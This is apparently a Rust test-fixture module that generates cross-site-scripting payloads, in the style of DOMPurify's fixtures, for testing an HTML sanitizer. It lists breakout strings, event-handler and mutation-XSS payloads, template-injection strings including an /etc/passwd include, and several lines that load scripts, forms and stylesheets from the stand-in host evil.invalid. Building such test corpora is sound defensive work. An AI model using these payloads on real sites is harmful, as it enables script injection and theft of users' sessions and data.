//! Attacks of our own, in the manner of DOMPurify's fixtures: what breaks out of where text stands, times what it
//! breaks out for.

mod addresses;
mod names;
mod signs;

/// What ends the place in which a text might stand.
const BREAKOUTS: &[&str] = &[
    "",
    "\">",
    "'>",
    "`>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</bdi></header>",
    "</p></div></li></ol>",
    "</q></a>",
    "</leptos-children></leptos-island>",
    "-->",
    "]]>",
    "</svg>",
    "</math>",
];

/// What runs, loads or changes something wherever it is taken for markup.
const MARKUP: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "<script type=module>import('//evil.invalid/x.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<img src=//evil.invalid/seen.png srcset='//evil.invalid/2x.png 2x'>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.invalid/x.swf allowscriptaccess=always>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<base href=//evil.invalid/>",
    "<link rel=import href=//evil.invalid/x.html>",
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css';body{display:none}</style>",
    "<div style='position:fixed;inset:0;z-index:9999;background:url(//evil.invalid/x)'>",
    "<form action=//evil.invalid/ id=x><input autofocus onfocus=alert(1)><button>Log in</button></form>",
    "<button form=x formaction=javascript:alert(1)>Post</button>",
    "<video autoplay><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
    "<a href='javascript:alert(1)' target=_self rel=opener>https://example.org/</a>",
];

/// What is harmless when it is parsed, and no longer when it is written out and parsed again.
const MUTATIONS: &[&str] = &[
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></p></foreignObject></svg>",
    "<svg><desc><noembed></svg><img src=x onerror=alert(1)></noembed></desc>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]></svg>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><svg/onload=alert(1)>\">",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<table><a href=x><svg><td><style></table><img src=x onerror=alert(1)></style>",
    "<template><style></template><img src=x onerror=alert(1)></style>",
    "<template shadowrootmode=open><slot></slot><script>alert(1)</script></template>",
    "<textarea><!--</textarea><img src=x onerror=alert(1)>-->",
    "<title><!--</title><script>alert(1)</script>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><svg onload=alert(1)>--!>",
    "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>",
    "<![if true]><script>alert(1)</script><![endif]>",
    "<p/title=`</p><img src=x onerror=alert(1)>`>",
    "<a><b><i><s><u><em><small><big><svg><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<plaintext><svg onload=alert(1)></plaintext>",
];

/// Elements with a place for a handler, and what they handle.
const HANDLED: &[&str] = &[
    "<img src=x on{}=alert(1)>",
    "<input autofocus on{}=alert(1)>",
    "<svg on{}=alert(1)>",
    "<a href=# oN{}\n=\n\"alert(1)\">x</a>",
    "<xss style='animation:x 1s' tabindex=0 id=comments on{}='alert(1)'>x</xss>",
    "\" on{}=\"alert(1)\" x=\"",
];

const EVENTS: &str = "\
    abort animationend animationstart auxclick beforeinput beforetoggle blur cancel click close contextmenu copy \
    error focus focusin hashchange input invalid keydown load mouseover paste pointerenter pointerrawupdate \
    scrollend securitypolicyviolation submit toggle transitionend";

/// What template languages, frameworks and renderers take for their own.
const TEMPLATES: &[&str] = &[
    "<!---->",
    "<!>",
    "<!--bo-item-0--><script>alert(1)</script><!--bc-item-0-->",
    "<leptos-island data-component=\"Comments_0\" data-props='{}'></leptos-island>",
    "<leptos-children></leptos-children>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ '<img src=x onerror=alert(1)>' | safe }}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "[[${alert(1)}]]",
    "{% include '/etc/passwd' %}",
    "{@html '<img src=x onerror=alert(1)>'}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\" x-data x-init=alert(1) ng-app ng-init=alert(1)>",
    "<img data-act=delete data-form=new data-island=failed src=x>",
    "<button data-act=undo class=comments-more>Show more</button>",
    "<iframe class=comment-this name=comments></iframe>",
    "![x](//evil.invalid/seen.png)",
    "[x](javascript:alert(1) \"title\")",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    "# Heading\n\n***\n\n* one\n* <script>alert(1)</script>",
];

/// One in so many of all combinations of two lists is taken. It divides the length of neither second list, so that each
/// entry of every list is met.
const STRIDE: usize = 3;

/// All of them.
pub fn payloads() -> Vec<String> {
    let events: Vec<&str> = EVENTS.split_whitespace().collect();
    let mut all = owned(MARKUP);
    all.extend(crossed(BREAKOUTS, MARKUP).into_iter().step_by(STRIDE));
    all.extend(owned(MUTATIONS));
    all.extend(owned(TEMPLATES));
    all.extend(filled(HANDLED, &events).into_iter().step_by(STRIDE));
    all.extend(addresses::addresses());
    all.extend(names::names());
    all.extend(signs::signs());
    all
}

fn owned(texts: &[&str]) -> Vec<String> {
    texts.iter().map(|text| (*text).to_owned()).collect()
}

/// Each of the first before each of the second.
fn crossed(firsts: &[&str], seconds: &[&str]) -> Vec<String> {
    firsts.iter().flat_map(|first| seconds.iter().map(move |second| format!("{first}{second}"))).collect()
}

/// Each of the first with each of the second in the place of its `{}`.
fn filled(frames: &[&str], inners: &[&str]) -> Vec<String> {
    frames.iter().flat_map(|frame| inners.iter().map(move |inner| frame.replace("{}", inner))).collect()
}
